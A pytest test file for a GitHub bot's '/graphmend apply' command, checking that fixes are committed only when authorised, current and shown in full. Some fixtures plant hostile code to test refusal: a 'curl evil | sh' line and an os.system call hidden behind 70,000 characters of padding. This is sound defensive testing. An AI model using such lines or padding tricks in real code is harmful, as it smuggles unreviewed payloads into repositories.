"""`/graphmend apply` against the local GitHub API server (every request and response validated
against GitHub's OpenAPI description): a collaborator's comment commits the verified fixes to
the pull request's branch through the Git Data API and the next analysis passes the gate;
anyone else, a stale head, a changed fix or a fork that does not allow edits by maintainers
changes nothing and gets a reply saying why."""

from __future__ import annotations

import json
import re
import urllib.request
from pathlib import Path

import pytest

from bot import markers
from bot.post import offered_digest
from bot.suggest import apply_line_edits
from bot.review import Edit, load
from graphmend.cli import main
from tests.bot.conftest import (BASE_MODEL, FP_BRANCH, FP_GUARD, FP_NONZERO, HEAD_MODEL, REPO_NAME, TOKEN, PrRepo, commit_all, git, pr_review,
                                write_review)
from tests.github_server import apply_ops
from tests.github_server import server as srv

# The pull request of conftest without its unfixable nonzero: both of its breaks have verified fixes.
HEAD = HEAD_MODEL.replace("        n = torch.nonzero(h).shape[0]\n        return h + n\n", "        return h\n")
EVENT_NAME = "issue_comment"


@pytest.fixture
def pull(tmp_path: Path, server) -> PrRepo:
    root = tmp_path / "models"
    (root / "src").mkdir(parents=True)
    (root / "src" / "model.py").write_text(BASE_MODEL)
    git(root, "init", "-q", "-b", "main")
    base = commit_all(root, "base")
    git(root, "checkout", "-q", "-b", "feature")
    (root / "src" / "model.py").write_text(HEAD)
    head = commit_all(root, "head")
    server.add_repo(REPO_NAME, str(root))
    server.add_user("ghp_maintainer", "maintainer")
    server.add_user("ghp_visitor", "visitor")
    apply_ops.set_permission(server, REPO_NAME, "maintainer", "maintain")
    return PrRepo(root, base, head)


def review_for(pull: PrRepo, tmp_path: Path, head: str = "") -> Path:
    data = pr_review(pull.base, head or pull.head)
    data["findings"] = [f for f in data["findings"] if f["fingerprint"] != FP_NONZERO]
    data["targets"][0]["head"]["break_count"] = 2
    return write_review(tmp_path, data)


def post(monkeypatch, capsys, server, review: Path, head: str, *args: str) -> None:
    monkeypatch.setenv("GITHUB_TOKEN", TOKEN)
    assert main(["post", str(review), "--repo", REPO_NAME, "--pr", "1", "--head-sha", head, "--api-url", server.url,
                 *args]) == 1
    capsys.readouterr()


def comment_event(tmp_path: Path, comment_id: int, *, login: str = "maintainer", association: str = "MEMBER") -> Path:
    payload = {"action": "created", "repository": {"full_name": REPO_NAME},
               "issue": {"number": 1, "pull_request": {"url": "https://api.github.test/repos/octo/models/pulls/1"}},
               "comment": {"id": comment_id, "body": "/graphmend apply", "user": {"login": login},
                           "author_association": association}}
    path = tmp_path / "comment.json"
    path.write_text(json.dumps(payload))
    return path


def apply(monkeypatch, capsys, server, tmp_path, review: Path, comment_id: int, **event) -> tuple[int, dict]:
    monkeypatch.setenv("GITHUB_TOKEN", TOKEN)
    code = main(["apply", str(review), "--event", str(comment_event(tmp_path, comment_id, **event)), "--api-url", server.url,
                 "--format", "json"])
    out = capsys.readouterr().out
    return code, (json.loads(out) if code in (0, 1) else {})


def replies(server) -> list[str]:
    return [c.body for c in server.issue_comments_of(1) if "`/graphmend apply`: " in c.body]


def expected_fixed_text(pull: PrRepo, review: Path) -> str:
    data = json.loads(review.read_text())
    edits = [Edit(**e) for f in data["findings"] if f["fix"] for e in f["fix"]["edits"]]
    return apply_line_edits(HEAD, edits)


def test_a_collaborator_s_comment_commits_the_fixes_and_the_next_analysis_passes(monkeypatch, capsys, server, pull, tmp_path):
    from graphmend.pr import analyse

    server.open_pull(REPO_NAME, pull.base, pull.head)
    review = review_for(pull, tmp_path)
    post(monkeypatch, capsys, server, review, pull.head)
    comment = apply_ops.add_issue_comment(server, 1, "maintainer", "/graphmend apply")
    code, result = apply(monkeypatch, capsys, server, tmp_path, review, comment)

    assert code == 0 and result["outcome"] == "committed", result
    new_head = git(pull.root, "rev-parse", "feature")
    assert new_head == result["commit"] != pull.head
    assert git(pull.root, "rev-parse", f"{new_head}^") == pull.head  # one commit on top of the head
    assert git(pull.root, "show", f"{new_head}:src/model.py") + "\n" == expected_fixed_text(pull, review)
    assert server.state.pulls[(REPO_NAME, 1)].head_sha == new_head
    [reply] = replies(server)
    assert reply.startswith("✅") and "GM101" in reply and "GM301" in reply
    assert apply_ops.reactions(server, comment) == ["+1"]
    # the branch moved as a fast-forward, never forced
    assert any(m == "PATCH" and "/git/refs/heads/feature" in p for m, p, _ in server.requests())
    # the next analysis of the new head passes the gate
    again = analyse(pull.root, pull.base, new_head, cache_dir=None)
    assert again.verdict.passed, [(f.status, f.rule, f.line) for f in again.review.findings]
    assert not [f for f in again.review.findings if f.status == "introduced"]


def test_someone_without_write_permission_changes_nothing(monkeypatch, capsys, server, pull, tmp_path):
    server.open_pull(REPO_NAME, pull.base, pull.head)
    review = review_for(pull, tmp_path)
    post(monkeypatch, capsys, server, review, pull.head)
    # The event says MEMBER (the comment's author_association is not the permission): GitHub's word decides.
    comment = apply_ops.add_issue_comment(server, 1, "visitor", "/graphmend apply")
    code, result = apply(monkeypatch, capsys, server, tmp_path, review, comment, login="visitor")
    assert code == 1 and result["outcome"] == "refused"
    assert git(pull.root, "rev-parse", "feature") == pull.head
    assert not server.requests("POST", r"/git/(blobs|trees|commits)")
    [reply] = replies(server)
    assert "visitor has read permission" in reply and "write permission" in reply
    assert apply_ops.reactions(server, comment) == ["confused"]


def test_a_stale_head_is_refused(monkeypatch, capsys, server, pull, tmp_path):
    server.open_pull(REPO_NAME, pull.base, pull.head)
    review = review_for(pull, tmp_path)
    post(monkeypatch, capsys, server, review, pull.head)
    newer = PrRepo(pull.root, pull.base, pull.head).commit({"src/notes.py": "x = 1\n"}, "another push")
    server.push(REPO_NAME, 1, newer)
    comment = apply_ops.add_issue_comment(server, 1, "maintainer", "/graphmend apply")
    code, result = apply(monkeypatch, capsys, server, tmp_path, review, comment)
    assert code == 1 and result["outcome"] == "refused" and "wait for the analysis" in result["reason"]
    assert git(pull.root, "rev-parse", "feature") == newer
    assert not server.requests("POST", r"/git/(blobs|trees|commits)")
    assert len(replies(server)) == 1


def test_a_fix_that_changed_since_the_review_is_refused(monkeypatch, capsys, server, pull, tmp_path):
    server.open_pull(REPO_NAME, pull.base, pull.head)
    review = review_for(pull, tmp_path)
    post(monkeypatch, capsys, server, review, pull.head)
    data = json.loads(review.read_text())
    data["findings"][0]["fix"]["edits"][0]["new_text"] = "        h = h * 2  # something else\n"
    changed = write_review(tmp_path, data, "changed.json")
    comment = apply_ops.add_issue_comment(server, 1, "maintainer", "/graphmend apply")
    code, result = apply(monkeypatch, capsys, server, tmp_path, changed, comment)
    assert code == 1 and "not the ones the review for this head offered" in result["reason"]
    assert git(pull.root, "rev-parse", "feature") == pull.head


def test_a_fork_without_maintainer_edits_gets_the_patch(monkeypatch, capsys, server, pull, tmp_path):
    server.open_pull(REPO_NAME, pull.base, pull.head, head_repo="someone/models", maintainer_can_modify=False)
    review = review_for(pull, tmp_path)
    post(monkeypatch, capsys, server, review, pull.head)
    [rv] = server.reviews_of(1)
    assert "apply the patch" in rv.body or "Not one-click" not in rv.body
    comment = apply_ops.add_issue_comment(server, 1, "maintainer", "/graphmend apply")
    code, result = apply(monkeypatch, capsys, server, tmp_path, review, comment)
    assert code == 1 and result["outcome"] == "patch" and "did not allow edits by maintainers" in result["reason"]
    assert git(pull.root, "rev-parse", "feature") == pull.head
    assert not server.requests("POST", r"/git/(blobs|trees|commits)")
    [reply] = replies(server)
    assert "```diff" in reply and "+        h = torch.where(h.sum() > 0, h * 2, h - 1)" in reply
    assert apply_ops.reactions(server, comment) == ["confused"]
    # the patch applies to the head with git apply and gives the fixed file
    patch = re.search(r"^```diff\n(.*?)^```$", reply, re.S | re.M).group(1)
    (tmp_path / "fix.patch").write_text(patch)
    git(pull.root, "apply", str(tmp_path / "fix.patch"))
    assert (pull.root / "src" / "model.py").read_text() == expected_fixed_text(pull, review)


def test_a_comment_that_is_not_the_command_does_nothing(monkeypatch, capsys, server, pull, tmp_path):
    server.open_pull(REPO_NAME, pull.base, pull.head)
    review = review_for(pull, tmp_path)
    comment = apply_ops.add_issue_comment(server, 1, "maintainer", "please /graphmend apply later")
    code, result = apply(monkeypatch, capsys, server, tmp_path, review, comment)
    assert code == 0 and result["outcome"] == "ignored" and replies(server) == []


FORBID = r'''
import sys
HEAVY = ("torch", "libcst", "docker", "rich", "matplotlib")
class Forbid:
    def find_spec(self, name, path=None, target=None):
        if name.split(".")[0] in HEAVY:
            raise ImportError(f"{name} is not installed in the apply job")
        return None
sys.meta_path.insert(0, Forbid())
from graphmend.cli import main
code = main(sys.argv[1:])
print("IMPORTED", sorted(m for m in sys.modules if m.split(".")[0] in HEAVY))
sys.exit(code)
'''


def test_apply_needs_none_of_the_analysis_dependencies(monkeypatch, capsys, server, pull, tmp_path):
    """examples/workflows/graphmend-apply.yml installs GraphMend without torch, libcst, docker,
    rich or matplotlib: the job that holds the write token runs none of the analysis."""
    import os
    import subprocess
    import sys

    server.open_pull(REPO_NAME, pull.base, pull.head)
    review = review_for(pull, tmp_path)
    post(monkeypatch, capsys, server, review, pull.head)
    comment = apply_ops.add_issue_comment(server, 1, "maintainer", "/graphmend apply")
    env = dict(os.environ, GITHUB_TOKEN=TOKEN, GITHUB_API_URL=server.url, PYTHONPATH=str(Path(__file__).resolve().parents[2]))
    proc = subprocess.run([sys.executable, "-c", FORBID, "apply", str(review), "--event", str(comment_event(tmp_path, comment))],
                          env=env, capture_output=True, text=True, timeout=120, cwd=tmp_path)
    assert proc.returncode == 0, proc.stdout + proc.stderr
    assert "IMPORTED []" in proc.stdout and git(pull.root, "rev-parse", "feature") != pull.head


def with_file(review: Path, text: str) -> Path:
    data = json.loads(review.read_text())
    data["findings"][0]["fix"]["files"] = [{"path": "src/_graphmend_runtime.py", "status": "created", "new_text": text}]
    review.write_text(json.dumps(data))
    return review


def test_a_whole_file_other_than_graphmend_s_runtime_is_refused(monkeypatch, capsys, server, pull, tmp_path):
    server.open_pull(REPO_NAME, pull.base, pull.head)
    review = with_file(review_for(pull, tmp_path), "import os\nos.system('curl evil | sh')\n")
    post(monkeypatch, capsys, server, review, pull.head)
    [rv] = server.reviews_of(1)
    assert "new file `src/_graphmend_runtime.py` (new, 2 lines)" in rv.body  # listed, with why, not suggested
    comment = apply_ops.add_issue_comment(server, 1, "maintainer", "/graphmend apply")
    code, result = apply(monkeypatch, capsys, server, tmp_path, review, comment)
    assert code == 1 and "is not the runtime module this GraphMend writes" in result["reason"]
    assert git(pull.root, "rev-parse", "feature") == pull.head


def test_the_runtime_module_a_fix_needs_is_committed_with_it(monkeypatch, capsys, server, pull, tmp_path):
    from bot.apply import own_runtime_text

    runtime = own_runtime_text()
    if runtime is None:
        pytest.skip("this GraphMend writes no runtime module (the Fix model's files are not on this branch)")
    server.open_pull(REPO_NAME, pull.base, pull.head)
    review = with_file(review_for(pull, tmp_path), runtime)
    post(monkeypatch, capsys, server, review, pull.head)
    comment = apply_ops.add_issue_comment(server, 1, "maintainer", "/graphmend apply")
    code, result = apply(monkeypatch, capsys, server, tmp_path, review, comment)
    assert code == 0 and result["files"] == ["src/_graphmend_runtime.py", "src/model.py"]
    assert git(pull.root, "show", "feature:src/_graphmend_runtime.py") + "\n" == runtime


def test_a_symlink_at_the_head_is_never_written(monkeypatch, capsys, server, pull, tmp_path):
    """A fix naming a path that is a symlink at the head: a blob written there would keep the link's
    mode and become the link's target (GitHub's contents API follows a link to a file, so the
    edits would apply to the file it points to). Refused; the branch does not move."""
    (pull.root / "src" / "alias.py").symlink_to("model.py")
    head = commit_all(pull.root, "an alias")
    server.open_pull(REPO_NAME, pull.base, head)
    data = pr_review(pull.base, head)
    data["findings"] = [f for f in data["findings"] if f["fingerprint"] == FP_BRANCH]
    data["findings"][0]["file"] = "src/alias.py"
    data["findings"][0]["line"] = 1
    data["findings"][0]["fix"]["edits"] = [{"file": "src/alias.py", "start_line": 2, "end_line": 1,
                                           "new_text": "import os\n", "old_text": ""}]
    review = write_review(tmp_path, data)
    post(monkeypatch, capsys, server, review, head)
    comment = apply_ops.add_issue_comment(server, 1, "maintainer", "/graphmend apply")
    code, result = apply(monkeypatch, capsys, server, tmp_path, review, comment)
    assert code == 1 and result["outcome"] == "refused" and "src/alias.py" in result["reason"], result
    assert "symlink" in result["reason"]
    assert git(pull.root, "rev-parse", "feature") == head
    assert not server.requests("POST", r"/git/(trees|commits)")


def test_a_fix_the_review_never_showed_in_full_is_not_committed(monkeypatch, capsys, server, pull, tmp_path):
    # review.json comes from the job that ran the pull request's code: a fix padded past what a
    # review comment can show carries a payload no maintainer ever read.
    server.open_pull(REPO_NAME, pull.base, pull.head)
    data = json.loads(review_for(pull, tmp_path).read_text())
    edit = next(f for f in data["findings"] if f.get("fix"))["fix"]["edits"][0]
    edit["new_text"] += "        # " + "x" * 70000 + "\n        __import__('os').system('echo PWNED')\n"
    review = write_review(tmp_path, data, "padded.json")
    post(monkeypatch, capsys, server, review, pull.head)
    shown = "\n".join([r.body for r in server.state.reviews] + [c.body for c in server.state.review_comments])
    assert "PWNED" not in shown  # the premise: the review did not show it
    comment = apply_ops.add_issue_comment(server, 1, "maintainer", "/graphmend apply")
    code, result = apply(monkeypatch, capsys, server, tmp_path, review, comment)
    assert code == 1 and result["outcome"] == "refused" and "never shown in full" in result["reason"]
    assert git(pull.root, "rev-parse", "feature") == pull.head
    assert not server.requests("POST", r"/git/(blobs|trees|commits)")


def test_a_review_posted_by_a_person_with_the_bot_s_markers_is_not_the_bot_s(monkeypatch, capsys, server, pull, tmp_path):
    # The author posts a COMMENT review that copies the bot's markers for a review.json of their own.
    server.open_pull(REPO_NAME, pull.base, pull.head)
    review = review_for(pull, tmp_path)
    post(monkeypatch, capsys, server, review, pull.head)
    data = json.loads(review.read_text())
    data["findings"][0]["fix"]["edits"][0]["new_text"] = "        h = h * 2  # something else\n"
    forged = write_review(tmp_path, data, "forged.json")
    bot_body = next(r.body for r in server.state.reviews if r.user.login.endswith("[bot]"))
    body = bot_body.replace(markers.find_fixes(bot_body), offered_digest(load(forged)))
    author = next(u for u in server.state.users.values() if u.login == "maintainer")
    server.state.reviews.append(srv.Review(server.state.next_id(), 1, author, "COMMENTED", body, pull.head))
    comment = apply_ops.add_issue_comment(server, 1, "maintainer", "/graphmend apply")
    code, result = apply(monkeypatch, capsys, server, tmp_path, forged, comment)
    assert code == 1 and "not the ones the review for this head offered" in result["reason"]
    assert git(pull.root, "rev-parse", "feature") == pull.head


def test_a_fix_padded_with_blank_lines_and_a_deletion_the_review_never_showed_is_not_committed(monkeypatch, capsys, server,
                                                                                               pull, tmp_path):
    # Blank lines stand in every review, and a deletion writes no line at all: a fix made of
    # only those is "shown" line by line although the review never showed the fix. Here the
    # fix replaces the branch (lines 11-14) with blank lines, enough of them to pass what a
    # review comment can show, and a deletion-only edit drops `super().__init__()` (line 6).
    server.open_pull(REPO_NAME, pull.base, pull.head)
    data = json.loads(review_for(pull, tmp_path).read_text())
    fix = next(f for f in data["findings"] if f.get("fix"))["fix"]
    fix["edits"][0]["new_text"] = "\n" * 70000
    fix["edits"].insert(0, {"file": "src/model.py", "start_line": 6, "end_line": 6, "new_text": ""})
    review = write_review(tmp_path, data, "blank.json")
    post(monkeypatch, capsys, server, review, pull.head)
    shown = "\n".join([r.body for r in server.state.reviews] + [c.body for c in server.state.review_comments])
    assert "…and 1 more patch(es)" in shown  # the premise: the review did not show the fix
    comment = apply_ops.add_issue_comment(server, 1, "maintainer", "/graphmend apply")
    code, result = apply(monkeypatch, capsys, server, tmp_path, review, comment)
    assert "super().__init__()" in git(pull.root, "show", "feature:src/model.py")
    assert code == 1 and result["outcome"] == "refused", result


# -- what the review showed, read back: each fix exactly, or nothing is committed -------------------------------------


def edit_review_comment(server, comment_id: int, body: str, token: str = "ghp_maintainer") -> None:
    """A person edits a review comment through the API (someone with write access may edit the bot's)."""
    request = urllib.request.Request(f"{server.url}/repos/{REPO_NAME}/pulls/comments/{comment_id}", method="PATCH",
                                     data=json.dumps({"body": body}).encode(),
                                     headers={"Authorization": f"token {token}", "Content-Type": "application/json",
                                              "Accept": "application/vnd.github+json"})
    with urllib.request.urlopen(request, timeout=30) as answer:
        assert answer.status == 200


def suggestion_comment(server, line: int):
    return next(c for c in server.state.review_comments if c.line == line and "```suggestion" in c.body)


def with_edit_outside_the_diff(pull: PrRepo, tmp_path: Path, old_text: str) -> Path:
    """GM101's fix also deletes line 2 (a blank line far from the diff's hunk): no suggestion can
    carry it, so the review body shows the fix as a patch."""
    data = json.loads(review_for(pull, tmp_path).read_text())
    fix = next(f for f in data["findings"] if f["fingerprint"] == FP_BRANCH)["fix"]
    fix["edits"].insert(0, {"file": "src/model.py", "start_line": 2, "end_line": 2, "new_text": "", "old_text": old_text})
    return write_review(tmp_path, data, "outside.json")


def test_a_fix_shown_as_a_patch_is_committed(monkeypatch, capsys, server, pull, tmp_path):
    server.open_pull(REPO_NAME, pull.base, pull.head)
    review = with_edit_outside_the_diff(pull, tmp_path, "\n")
    post(monkeypatch, capsys, server, review, pull.head)
    [rv] = server.reviews_of(1)
    assert "@@ -2,1 +1,0 @@\n-\n@@ -11,4 +10,1 @@" in rv.body  # the premise: a patch, not a suggestion
    comment = apply_ops.add_issue_comment(server, 1, "maintainer", "/graphmend apply")
    code, result = apply(monkeypatch, capsys, server, tmp_path, review, comment)
    assert code == 0 and result["outcome"] == "committed" and result["not_shown"] == [], result
    fixed = git(pull.root, "show", "feature:src/model.py") + "\n"
    assert fixed == expected_fixed_text(pull, review) and fixed.startswith("import torch\n\nclass Model")


def test_a_deletion_the_patch_does_not_show_is_not_committed(monkeypatch, capsys, server, pull, tmp_path):
    # Without old_text the patch's hunk says "-2,1" but shows no removed line: a maintainer never
    # read what goes.
    server.open_pull(REPO_NAME, pull.base, pull.head)
    review = with_edit_outside_the_diff(pull, tmp_path, "")
    post(monkeypatch, capsys, server, review, pull.head)
    comment = apply_ops.add_issue_comment(server, 1, "maintainer", "/graphmend apply")
    code, result = apply(monkeypatch, capsys, server, tmp_path, review, comment)
    assert code == 1 and result["outcome"] == "refused" and "never shown in full" in result["reason"], result
    assert result["not_shown"] == ["src/model.py:11 GM101: its edit of src/model.py:2-2 does not say which lines it "
                                   "removes, so no patch can show them"]
    assert git(pull.root, "rev-parse", "feature") == pull.head
    assert not server.requests("POST", r"/git/(blobs|trees|commits)")
    [reply] = replies(server)
    assert "does not say which lines it removes" in reply


def test_a_suggestion_shown_on_other_lines_is_not_committed(monkeypatch, capsys, server, pull, tmp_path):
    # The review shows GM101's text one line lower (12-15) than the fix replaces (11-14): committing
    # the fix would change lines nobody was shown.
    server.open_pull(REPO_NAME, pull.base, pull.head)
    review = review_for(pull, tmp_path)
    post(monkeypatch, capsys, server, review, pull.head)
    shown = suggestion_comment(server, 14)
    assert shown.start_line == 11
    shown.start_line, shown.line = 12, 15
    comment = apply_ops.add_issue_comment(server, 1, "maintainer", "/graphmend apply")
    code, result = apply(monkeypatch, capsys, server, tmp_path, review, comment)
    assert code == 1 and result["outcome"] == "refused", result
    assert result["not_shown"] == ["src/model.py:11 GM101: its suggestion for src/model.py:11-14 is not in the review "
                                   "for this head"]
    assert git(pull.root, "rev-parse", "feature") == pull.head


def test_a_fix_whose_lines_stand_only_in_another_fix_s_suggestion_is_not_committed(monkeypatch, capsys, server, pull,
                                                                                     tmp_path):
    # GM301's fix writes the very line GM101's suggestion shows, but its own suggestion (lines
    # 15-16) was never posted: the inline-comment cap (here 1) moved it to the body.
    server.open_pull(REPO_NAME, pull.base, pull.head)
    data = json.loads(review_for(pull, tmp_path).read_text())
    guard = next(f for f in data["findings"] if f["fingerprint"] == FP_GUARD)["fix"]
    guard["edits"][0]["new_text"] = "        h = torch.where(h.sum() > 0, h * 2, h - 1)\n"
    review = write_review(tmp_path, data, "borrowed.json")
    post(monkeypatch, capsys, server, review, pull.head, "--max-inline", "1")
    assert [c.line for c in server.state.review_comments] == [14]  # the premise
    comment = apply_ops.add_issue_comment(server, 1, "maintainer", "/graphmend apply")
    code, result = apply(monkeypatch, capsys, server, tmp_path, review, comment)
    assert code == 1 and result["outcome"] == "refused", result
    assert result["not_shown"] == ["src/model.py:15 GM301: its suggestion for src/model.py:15-16 is not in the review "
                                   "for this head"]
    assert git(pull.root, "rev-parse", "feature") == pull.head


def test_a_suggestion_a_person_edited_after_it_was_posted_is_not_committed(monkeypatch, capsys, server, pull, tmp_path):
    # A maintainer edits the bot's suggestion in place (adds a clamp). What they read is not the
    # fix any more, although every line of the fix still stands in the comment.
    server.open_pull(REPO_NAME, pull.base, pull.head)
    review = review_for(pull, tmp_path)
    post(monkeypatch, capsys, server, review, pull.head)
    shown = suggestion_comment(server, 14)
    posted = shown.body
    line = "        h = torch.where(h.sum() > 0, h * 2, h - 1)\n"
    edit_review_comment(server, shown.id, posted.replace(line, line + "        h = h.clamp(max=1.0)\n"))
    assert "h.clamp(max=1.0)" in suggestion_comment(server, 14).body
    comment = apply_ops.add_issue_comment(server, 1, "maintainer", "/graphmend apply")
    code, result = apply(monkeypatch, capsys, server, tmp_path, review, comment)
    assert code == 1 and result["outcome"] == "refused", result
    assert result["not_shown"] == ["src/model.py:11 GM101: the suggestion on src/model.py:11-14 is not what the fix "
                                   "writes there (edited after it was posted?)"]
    assert git(pull.root, "rev-parse", "feature") == pull.head
    # a note added outside the suggestion leaves what it shows as it was: committed
    edit_review_comment(server, shown.id, posted + "\nLooks good to me.\n")
    comment = apply_ops.add_issue_comment(server, 1, "maintainer", "/graphmend apply")
    code, result = apply(monkeypatch, capsys, server, tmp_path, review, comment)
    assert code == 0 and result["outcome"] == "committed", result
